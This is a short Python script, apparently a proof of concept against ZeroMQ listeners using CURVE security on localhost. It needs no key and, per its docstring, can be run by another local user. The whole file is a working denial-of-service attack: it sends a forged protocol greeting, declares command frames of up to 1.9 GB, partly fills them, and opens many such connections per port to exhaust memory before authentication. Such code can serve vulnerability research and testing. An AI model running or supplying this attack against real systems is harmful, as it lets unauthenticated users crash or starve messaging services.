"""Connects without a key and fills what it can; run by another user, with nothing but Python."""

import socket
import struct
import sys
import time
from contextlib import suppress

GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"CURVE".ljust(20, b"\0") + bytes(32)
MEBI = 2**20


def fill(port, declared, sent):
    """A connection that declares a command frame of a size, and sends so much of it."""
    held = socket.create_connection(("127.0.0.1", port))
    held.settimeout(0.5)
    with suppress(OSError):
        held.sendall(GREETING + b"\x06" + struct.pack("!Q", declared))
        for _ in range(sent // 65536):
            held.sendall(bytes(65536))
    return held


count, *ports = map(int, sys.argv[1:])
for port in ports:
    large = [fill(port, 1_900_000_000, 50 * MEBI) for _ in range(count)]
    small = [fill(port, MEBI, MEBI - 65536) for _ in range(count)]
    time.sleep(1)
    for held in (*large, *small):
        held.close()
